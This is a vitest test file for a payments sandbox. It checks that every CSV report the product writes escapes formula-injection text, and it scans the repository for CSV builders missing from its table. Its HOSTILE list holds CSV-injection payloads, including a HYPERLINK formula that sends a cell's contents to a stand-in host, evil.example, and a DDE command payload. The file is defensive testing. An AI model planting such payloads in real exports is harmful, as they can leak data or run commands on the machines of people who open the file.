import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { addDays, businessToday } from '@balcao/domain/dates';
import { BANK_ACCOUNT_TYPES, REPORT_TYPE_KEYS } from '@balcao/domain/reports';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ADMIN,
  createTestSandbox,
  jsonBody,
  type SandboxOutbox,
  type TestSandbox,
  textBody,
} from '../../test-support';
import { buildChargeReport } from '../charges/report';
import { buildReportFile } from '../reports/jobs';
import { parseCsv } from './csv-parse';

/**
 * Every CSV the product writes, fed hostile text in every field a person or a buyer can type: no cell may
 * start like a formula (OWASP 'CSV injection'), whichever builder wrote it. A new builder joins the table
 * or the source scan at the end fails.
 */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1;"Reembolso")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];
/** Amounts and counts: a leading minus there is a negative number, never a formula. */
const PLAIN_NUMBER = /^-?[\d.]+(,\d+)?$/;
const FORMULA_START = /^[=+\-@\t\r]/;

let s: TestSandbox;
let sellerId: number;
let today: string;

/** Each row gets one of the hostile texts, by its id, so every builder meets all of them. */
const hostileBy = (id: string) =>
  `(ARRAY[${HOSTILE.map((_, i) => `$${i + 1}`).join(', ')}])[1 + abs(hashtext(${id}::text)) % ${HOSTILE.length}]`;

beforeAll(async () => {
  s = await createTestSandbox();
  today = businessToday(s.clock.now());
  const [user] = await s.db.query<{ seller_id: number }>('SELECT seller_id FROM users WHERE email = $1', [
    ADMIN,
  ]);
  sellerId = user!.seller_id;
  const h = hostileBy;
  await s.db.query(
    `UPDATE charges SET customer_name = ${h('id')}, customer_email = ${h("id || 'e'")}, title = ${h("id || 't'")}`,
    HOSTILE,
  );
  await s.db.query(`UPDATE payment_links SET title = left(${h('id')} || ' ' || id, 60)`, HOSTILE);
  await s.db.query(`UPDATE card_transactions SET description = ${h('id')}`, HOSTILE);
  // The ledger refuses edits by design; the test lifts that for its own copy of the seed, once.
  await s.db.query('ALTER TABLE ledger_entries DISABLE TRIGGER ledger_entries_append_only');
  await s.db.query(
    `UPDATE ledger_entries SET description = ${h('id')}, operation = left(${h("id || 'o'")}, 40)`,
    HOSTILE,
  );
  await s.db.query('ALTER TABLE ledger_entries ENABLE TRIGGER ledger_entries_append_only');
});
afterAll(() => s?.close());

// Through `s.call`: the sandbox's outbox, and the CSV answers whose bytes are what is checked.
const latestAttachment = async (to: string) => {
  const outbox = await s.call({
    method: 'GET',
    url: `/_sandbox/outbox?format=json&to=${encodeURIComponent(to)}`,
  });
  const { url } = jsonBody<SandboxOutbox>(outbox).emails[0]!.attachments[0]!;
  return (await s.app.inject({ method: 'GET', url: new URL(url).pathname })).rawPayload.toString('utf8');
};

interface CsvBuilder {
  name: string;
  /** The files that write it, relative to the repository: the source scan checks none is left out. */
  sources: string[];
  build(): Promise<string>;
}

const REPORTS = [
  'apps/sandbox/src/areas/reports/jobs.ts',
  'apps/sandbox/src/areas/reports/sales-csv.ts',
  'apps/sandbox/src/areas/reports/ledger-csv.ts',
];

const BUILDERS: CsvBuilder[] = [
  {
    name: 'relatório de cobranças (Baixar relatório .csv)',
    sources: ['apps/sandbox/src/areas/charges/report.ts'],
    build: async () =>
      (
        await buildChargeReport(
          s.db,
          sellerId,
          { from: addDays(today, -400), to: addDays(today, 400) },
          today,
        )
      ).csv.toString('utf8'),
  },
  ...REPORT_TYPE_KEYS.flatMap((type) =>
    (type === 'EXTRATO_CONTAS' ? BANK_ACCOUNT_TYPES : [null]).map((account) => ({
      name: `relatório ${type}${account ? ` ${account}` : ''}`,
      sources: REPORTS,
      build: async () =>
        (
          await buildReportFile(
            s.db,
            { report_type: type, account_type: account },
            {
              sellerId,
              from: addDays(today, -400),
              to: addDays(today, 60),
            },
          )
        ).csv.toString('utf8'),
    })),
  ),
  {
    name: 'extrato do cartão (Extrair extrato)',
    sources: ['apps/sandbox/src/areas/cards/transactions.ts'],
    build: async () => {
      const [card] = await s.db.query<{ id: string }>(
        `SELECT c.id FROM cards c WHERE c.seller_id = $1 AND c.status <> 'PENDING'
           AND EXISTS (SELECT 1 FROM card_transactions t WHERE t.card_id = c.id) ORDER BY c.id LIMIT 1`,
        [sellerId],
      );
      const sent = await (await s.clients(ADMIN)).banking.POST('/v1/banking/card/transactions', {
        body: { cardId: card!.id, startDate: addDays(today, -365), endDate: today },
      });
      expect(sent.response.status).toBe(202);
      return latestAttachment(ADMIN);
    },
  },
  {
    name: 'extrato da página financeira (GET /redeems/statement/csv)',
    sources: [
      'apps/sandbox/src/areas/financial/statement-csv.ts',
      'apps/sandbox/src/gateways/banking/financial.ts',
    ],
    build: async () => {
      const answer = await s.call({
        method: 'GET',
        url: `/banking/redeems/statement/csv?executionDateInitial=${addDays(today, -30)}&executionDateFinal=${today}`,
        headers: await s.bearer(ADMIN),
      });
      expect(answer.status).toBe(200);
      return textBody(answer);
    },
  },
  {
    name: 'registro de atividades (GET /activity-log/csv)',
    sources: [
      'apps/sandbox/src/areas/activity-log/read.ts',
      'apps/sandbox/src/gateways/banking/activity-log.ts',
    ],
    build: async () => {
      // What a person can put in the log is the object of an action (a card's name, a key) and, through a
      // proxy, the address it came from: each row gets a hostile one.
      await s.db.query(
        `INSERT INTO activity_log (seller_id, user_id, action, subject_id, ip_address, result, occurred_at)
         SELECT $${HOSTILE.length + 1}, u.id, 'card.reveal', h, h, 'SUCCESS', $${HOSTILE.length + 2}
           FROM unnest(ARRAY[${HOSTILE.map((_, i) => `$${i + 1}`).join(', ')}]) AS h,
                (SELECT id FROM users WHERE email = '${ADMIN}') u`,
        [...HOSTILE, sellerId, s.clock.now().toISOString()],
      );
      const answer = await s.call({
        method: 'GET',
        url: `/banking/activity-log/csv?startDate=${addDays(today, -30)}&endDate=${today}`,
        headers: await s.bearer(ADMIN),
      });
      expect(answer.status).toBe(200);
      return textBody(answer);
    },
  },
];

/**
 * Not CSV builders though they match the scan: canonical JSON, and the SDK's example script, which is the
 * integrator's own code (it cannot import the private @balcao/domain; see docs/decisions).
 */
const NOT_PRODUCT_CSV = [
  'apps/sandbox/src/http/idempotency.ts',
  // The typed edge names text/csv answers' types; it writes none.
  'apps/sandbox/src/gateways/types.ts',
  'packages/sdk/examples/reconcile-month.ts',
  'packages/domain/src/reports/csv.ts',
];

describe('every CSV the product writes', () => {
  it.each(BUILDERS.map((b) => [b.name, b] as const))('%s keeps hostile text as text', async (_, builder) => {
    const rows = parseCsv(await builder.build());
    const cells = rows.slice(1).flat();
    const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
    expect(formulas).toEqual([]);
    // Not true for lack of data: the builder did meet the hostile texts, and wrote them as text.
    if (!/^relatório (BALANCO|REPASSES)/.test(builder.name))
      expect(
        cells.filter((cell) => HOSTILE.some((h) => cell === `'${h}` || cell.startsWith(`'${h}`))).length,
      ).toBeGreaterThan(0);
  });

  it('has every CSV producer of the repository in its table', () => {
    const root = join(import.meta.dirname, '../../../../..');
    const producer = /text\/csv|CSV_CONTENT_TYPE|csvLine\(|csvDocument\(|\.join\(\s*['"`][;,]['"`]\s*\)/;
    const found: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        if (['node_modules', 'dist', 'generated'].includes(entry.name)) continue;
        const path = join(dir, entry.name);
        if (entry.isDirectory()) walk(path);
        else if (
          /\.(ts|tsx|mjs)$/.test(entry.name) &&
          !/\.test\.tsx?$|test-support|csv-parse/.test(entry.name)
        )
          if (producer.test(readFileSync(path, 'utf8'))) found.push(relative(root, path));
      }
    };
    for (const top of ['apps', 'packages']) walk(join(root, top));
    const known = new Set([...BUILDERS.flatMap((b) => b.sources), ...NOT_PRODUCT_CSV]);
    expect(found.filter((path) => !known.has(path))).toEqual([]);
  });
});
